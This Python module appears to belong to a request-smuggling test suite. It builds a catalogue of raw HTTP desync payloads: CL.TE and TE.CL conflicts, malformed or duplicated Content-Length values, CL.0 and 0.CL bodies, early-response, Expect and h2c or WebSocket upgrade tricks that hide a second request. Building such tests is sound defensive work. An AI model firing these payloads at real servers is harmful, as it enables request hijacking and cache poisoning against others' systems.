"""Techniques of lengths: both framings at once, Content-Length that two parsers read differently, bodies that one of
two servers does not expect, early answers, Expect, upgrades with a body.
"""

from loadtests.smuggling.techniques.parts import (
    CHUNKED,
    GET,
    HIDDEN,
    HOST,
    LAST_CHUNK,
    OPEN_END,
    POST,
    Technique,
    chunk,
    with_length,
)

_BODY = LAST_CHUNK + HIDDEN
_EARLY = b"POST /up/early/000 HTTP/1.1\r\n" + HOST
_KEY = b"Sec-WebSocket-Version: 13\r\nSec-WebSocket-Key: AAAAAAAAAAAAAAAAAAAAAA==\r\n"
_WEBSOCKET = b"Upgrade: websocket\r\nConnection: Upgrade\r\n" + _KEY
_H2C = b"Upgrade: h2c\r\nHTTP2-Settings: AAMAAABkAARAAAAAAAIAAAAA\r\nConnection: Upgrade, HTTP2-Settings\r\n"
_PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n\x00\x00\x00\x04\x00\x00\x00\x00\x00"


def _both() -> tuple[Technique, ...]:
    source = "RFC 9112 6.1, Linhart et al. 2005, Kettle 2019"
    shorter = str(len(LAST_CHUNK))
    return (
        Technique("CL.TE", "length covers all, chunks end early", source, (with_length(POST + CHUNKED, _BODY),)),
        Technique("CL.TE", "open end", source, (with_length(POST + CHUNKED, LAST_CHUNK + OPEN_END),)),
        Technique("CL.TE", "on GET", source, (with_length(GET + CHUNKED, _BODY),)),
        Technique("CL.TE", "zero length", source, (with_length(POST + CHUNKED, chunk(HIDDEN) + LAST_CHUNK, "0"),)),
        Technique("CL.TE", "HTTP/1.0", "RFC 9112 6.1",
                  (with_length(POST.replace(b"1.1", b"1.0") + CHUNKED, _BODY),)),
        Technique("TE.CL", "chunk covers all, length ends early", source,
                  (with_length(POST + CHUNKED, chunk(HIDDEN) + LAST_CHUNK, "4"),)),
        Technique("TE.CL", "coding behind the length", source,
                  (POST + b"Content-Length: 4\r\n" + CHUNKED + b"\r\n" + chunk(HIDDEN) + LAST_CHUNK,)),
        Technique("TE.CL", "equal lengths", source, (with_length(POST + CHUNKED, LAST_CHUNK, shorter) + HIDDEN,)),
        Technique("TE.CL", "coding without a length on HTTP/1.0", "RFC 9112 6.1",
                  (POST.replace(b"1.1", b"1.0") + CHUNKED + b"\r\n" + chunk(HIDDEN) + LAST_CHUNK,)),
    )  # fmt: skip


_LENGTHS = {
    "plus sign": "+{}",
    "minus sign": "-{}",
    "hexadecimal": "0x{:x}",
    "hexadecimal without prefix": "{:x}h",
    "underscore": "{}_0",
    "list of equals": "{0}, {0}",
    "list, smaller first": "0, {}",
    "list, smaller last": "{}, 0",
    "trailing comma": "{},",
    "leading comma": ",{}",
    "space inside": "{} 0",
    "tab inside": "{}\t0",
    "semicolon": "{};q=1",
    "point": "{}.0",
    "exponent": "{}e0",
    "quoted": '"{}"',
    "vertical tab behind": "{}\x0b",
    "form feed before": "\x0c{}",
    "NEL before": "\x85{}",
    "no-break space behind": "{}\xa0",
    "superscript digit": "\xb9",
    "empty": "",
    "2^63": "9223372036854775808",
    "2^64": "18446744073709551616",
    "2^64 and the length": "184467440737095516{}",
    "octal": "0o{:o}",
    "NUL behind": "{}\0",
    "CR behind": "{}\r",
}


def _lengths() -> tuple[Technique, ...]:
    source = "RFC 9110 8.6, RFC 9112 6.3"
    written = (
        Technique("CL spelling", name, source, (with_length(POST, HIDDEN, text.format(len(HIDDEN))),))
        for name, text in _LENGTHS.items()
    )
    n = len(HIDDEN)
    twice = b"Content-Length: %d\r\nContent-Length: %d\r\n\r\n"
    return (
        *written,
        Technique("CL spelling", "leading zeros", "RFC 9110 8.6", (with_length(POST, HIDDEN, f"000{n}"),)),
        Technique("CL spelling", "white space around", "RFC 9110 5.5", (with_length(POST, HIDDEN, f" \t{n} \t"),)),
        Technique("CL.CL", "equal", source, (POST + twice % (n, n) + HIDDEN,)),
        Technique("CL.CL", "smaller first", source, (POST + twice % (0, n) + HIDDEN,)),
        Technique("CL.CL", "smaller last", source, (POST + twice % (n, 0) + HIDDEN,)),
        Technique("CL.CL", "other case", source,
                  (POST + b"content-length: 0\r\nCONTENT-LENGTH: %d\r\n\r\n" % n + HIDDEN,)),
    )  # fmt: skip


def _unexpected() -> tuple[Technique, ...]:
    methods = "GET HEAD DELETE OPTIONS PATCH PUT PROPFIND get".split()
    source = "RFC 9110 9.3.1, Kettle 2022 (CL.0)"
    head = "{} /up/attack/000 HTTP/1.1\r\n"
    sent = (
        Technique("CL.0", f"body of {name}", source, (with_length(head.format(name).encode() + HOST, HIDDEN),))
        for name in methods
    )
    static = POST.replace(b"000", b"000/logo.png")
    return (
        *sent,
        Technique("CL.0", "body of a static file", source, (with_length(static, HIDDEN),)),
        Technique("CL.0", "open end", source, (with_length(POST, OPEN_END),)),
        Technique("CL.0", "chunked GET", source, (GET + CHUNKED + b"\r\n" + chunk(HIDDEN) + LAST_CHUNK,)),
        Technique("CL.0", "keep-alive on HTTP/1.0", source,
                  (with_length(POST.replace(b"1.1", b"1.0") + b"Connection: keep-alive\r\n", HIDDEN),)),
        Technique("CL.0", "TRACE with a body", "RFC 9110 9.3.8",
                  (with_length(b"TRACE /up/attack/000 HTTP/1.1\r\n" + HOST, HIDDEN),)),
        Technique("CL.0", "CONNECT with a body", "RFC 9110 9.3.6",
                  (with_length(b"CONNECT /up/attack/000 HTTP/1.1\r\n" + HOST, HIDDEN),)),
        Technique("0.CL", "more promised than sent", "Kettle 2025 (0.CL)",
                  (with_length(GET, HIDDEN, "4000"),), waits=True),
        Technique("0.CL", "chunk larger than sent", "RFC 9112 7.1",
                  (POST + CHUNKED + b"\r\nfff\r\n" + HIDDEN,), waits=True),
        Technique("0.CL", "no length at all", "RFC 9112 6.3", (POST + b"\r\n" + HIDDEN,), pipelined=True),
        Technique("0.CL", "length zero", "RFC 9112 6.3", (with_length(POST, HIDDEN, "0"),), pipelined=True),
    )  # fmt: skip


def _early() -> tuple[Technique, ...]:
    source = "RFC 9112 9.5, Kettle 2025 (early response)"
    n = len(HIDDEN)
    return (
        Technique("early answer", "body behind the answer", source,
                  (_EARLY + b"Content-Length: %d\r\n\r\n" % n, HIDDEN), waits=True),
        Technique("early answer", "half of the body behind the answer", source,
                  (_EARLY + b"Content-Length: %d\r\n\r\n" % (n + 9) + HIDDEN[:9], HIDDEN), waits=True),
        Technique("early answer", "chunks behind the answer", source,
                  (_EARLY + CHUNKED + b"\r\n", chunk(HIDDEN) + LAST_CHUNK), waits=True),
        Technique("early answer", "no body at all", source, (_EARLY + b"Content-Length: 4000\r\n\r\n",), waits=True),
        Technique("early answer", "whole body at once", source, (with_length(_EARLY, HIDDEN),)),
    )  # fmt: skip


def _expects() -> tuple[Technique, ...]:
    source = "RFC 9110 10.1.1, CVE-2024-24791, Kettle 2025"
    n = len(HIDDEN)
    expects = b"Expect: 100-continue\r\n"
    length = b"Content-Length: %d\r\n" % n
    return (
        Technique("Expect", "body after 100", source, (POST + expects + length + b"\r\n", HIDDEN)),
        Technique("Expect", "body at once", source, (POST + expects + length + b"\r\n" + HIDDEN,)),
        Technique("Expect", "on GET", source, (GET + expects + length + b"\r\n", HIDDEN)),
        Technique("Expect", "early answer, then the body", source,
                  (_EARLY + expects + length + b"\r\n", HIDDEN), waits=True),
        Technique("Expect", "other value", source, (with_length(POST + b"Expect: y 100-continue\r\n", HIDDEN),)),
        Technique("Expect", "twice", source, (with_length(POST + expects + expects, HIDDEN),)),
        Technique("Expect", "list", source, (with_length(POST + b"Expect: 100-continue, 100-continue\r\n", HIDDEN),)),
        Technique("Expect", "folded", source, (with_length(POST + b"Expect:\r\n 100-continue\r\n", HIDDEN),)),
        Technique("Expect", "control character", source,
                  (with_length(POST + b"Expect: 100-continue\x0b\r\n", HIDDEN),)),
        Technique("Expect", "without a body", source, (POST + expects + b"\r\n" + HIDDEN,), pipelined=True),
        Technique("Expect", "on HTTP/1.0", source,
                  (with_length(POST.replace(b"1.1", b"1.0") + expects, HIDDEN),)),
    )  # fmt: skip


def _upgrades() -> tuple[Technique, ...]:
    body = b"Content-Length: %d\r\n\r\n" % len(HIDDEN) + HIDDEN
    chunks = CHUNKED + b"\r\n" + chunk(HIDDEN) + LAST_CHUNK
    tunnels = "RFC 9110 7.8, CVE-2026-2833"
    return (
        Technique("h2c", "upgrade", "RFC 7540 3.2, Jake Miller 2020", (GET + _H2C + b"\r\n",)),
        Technique("h2c", "upgrade, then frames", "RFC 7540 3.2", (GET + _H2C + b"\r\n", _PREFACE)),
        Technique("h2c", "upgrade without naming the settings", "RFC 7540 3.2",
                  (GET + _H2C.replace(b", HTTP2-Settings", b"") + b"\r\n",)),
        Technique("h2c", "beside websocket", "RFC 9110 7.8",
                  (GET + _H2C.replace(b"h2c", b"websocket, h2c") + b"\r\n",)),
        Technique("h2c", "upgrade with a body", "CVE-2026-58055", (GET + _H2C + body,)),
        Technique("h2c", "preface", "RFC 9113 3.4", (_PREFACE + HIDDEN,)),
        Technique("upgrade", "websocket with a length", "CVE-2026-58055", (GET + _WEBSOCKET + body,)),
        Technique("upgrade", "websocket with chunks", "CVE-2026-58055", (GET + _WEBSOCKET + chunks,)),
        Technique("upgrade", "request behind it, before the answer", tunnels,
                  (GET + _WEBSOCKET + b"\r\n" + HIDDEN,), waits=True, pipelined=True),
        Technique("upgrade", "wrong version", "websocket smuggling, 0ang3el 2019",
                  (GET + _WEBSOCKET.replace(b"13", b"777") + b"\r\n" + HIDDEN,), waits=True, pipelined=True),
        Technique("upgrade", "by POST", tunnels, (POST + _WEBSOCKET + b"\r\n" + HIDDEN,), waits=True, pipelined=True),
        Technique("upgrade", "TLS", "RFC 2817",
                  (GET + b"Upgrade: TLS/1.2\r\nConnection: Upgrade\r\n\r\n" + HIDDEN,), pipelined=True),
    )  # fmt: skip


BODIES = (*_both(), *_lengths(), *_unexpected(), *_early(), *_expects(), *_upgrades())
